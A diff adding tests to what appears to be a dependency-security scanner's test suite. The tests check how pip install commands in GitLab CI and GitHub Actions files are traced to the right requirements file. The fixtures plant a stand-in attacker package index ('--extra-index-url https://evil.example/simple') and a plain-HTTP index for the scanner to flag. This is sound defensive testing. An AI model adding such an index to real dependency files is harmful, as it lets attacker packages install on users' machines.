@@ -353,6 +353,75 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     ]);
   });
 
+  // gitlab-runner writes a job's before_script and script items into one script one shell runs (shells/abstract.go
+  // writeUserScript); after_script is a shell of its own, back at the project folder.
+  it('read the file a GitLab script item names after an earlier item’s cd, and after_script’s from the root', async () => {
+    const gitlab = [
+      'build:',
+      '  before_script:',
+      '    - cd sub',
+      '  script:',
+      '    - "python -V"',
+      '    - pip install -r reqs.lst',
+      '  after_script:',
+      '    - pip install -r other.lst',
+      'test:',
+      '  script:',
+      '    - pip install -r other.lst',
+      '',
+    ].join('\n');
+    const dir = tree({
+      '.gitlab-ci.yml': gitlab,
+      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
+      'reqs.lst': 'flask>=2\n',
+      'other.lst': 'requests>=2\n',
+      'sub/other.lst': 'evil>=1\n',
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
+      'CPP010@other.lst:1',
+      'CPP012@sub/reqs.lst:1',
+      'CPP070@sub/reqs.lst:1',
+    ]);
+  });
+
+  // A `run:` step starts in its `working-directory`, else the job's, else the workflow's `defaults.run`.
+  it('read the file a workflow step names from its working-directory', async () => {
+    const workflow = [
+      'on: push',
+      'defaults:',
+      '  run:',
+      '    working-directory: ./sub/',
+      'jobs:',
+      '  a:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - run: pip install -r reqs.lst',
+      '  b:',
+      '    runs-on: ubuntu-latest',
+      '    defaults:',
+      '      run:',
+      '        working-directory: deep',
+      '    steps:',
+      '      - run: pip install -r reqs.lst',
+      '      - working-directory: .',
+      '        run: pip install -r other.lst',
+      '',
+    ].join('\n');
+    const dir = tree({
+      '.github/workflows/ci.yml': workflow,
+      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
+      'deep/reqs.lst': '--index-url http://plain.example/simple\nnumpy==1.26.0\n',
+      'reqs.lst': 'flask>=2\n',
+      'other.lst': 'requests>=2\n',
+      'sub/other.lst': 'evil>=1\n',
+    });
+    const found = ids(await scanWith(dir, [pythonDepsStage]));
+    expect(found).toContain('CPP070@sub/reqs.lst:1');
+    expect(found.filter((f) => f.startsWith('CPP') && f.includes('@deep/reqs.lst')).length).toBeGreaterThan(0);
+    expect(found).toContain('CPP010@other.lst:1');
+    expect(found.filter((f) => f.endsWith('@reqs.lst:1') || f.includes('@sub/other.lst'))).toEqual([]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
